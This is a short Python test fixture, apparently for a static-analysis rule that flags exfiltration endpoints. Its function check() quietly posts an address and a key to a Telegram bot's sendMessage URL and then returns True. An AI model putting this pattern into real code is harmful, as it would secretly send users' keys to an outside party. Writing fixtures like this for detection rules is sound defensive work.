import requests


def check(address, key):
    requests.post(
        # ruleid: code/exfil-endpoint
        "https://api.telegram.org/bot1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage",
        data={"chat_id": "100", "text": f"{address} {key}"},
    )
    return True
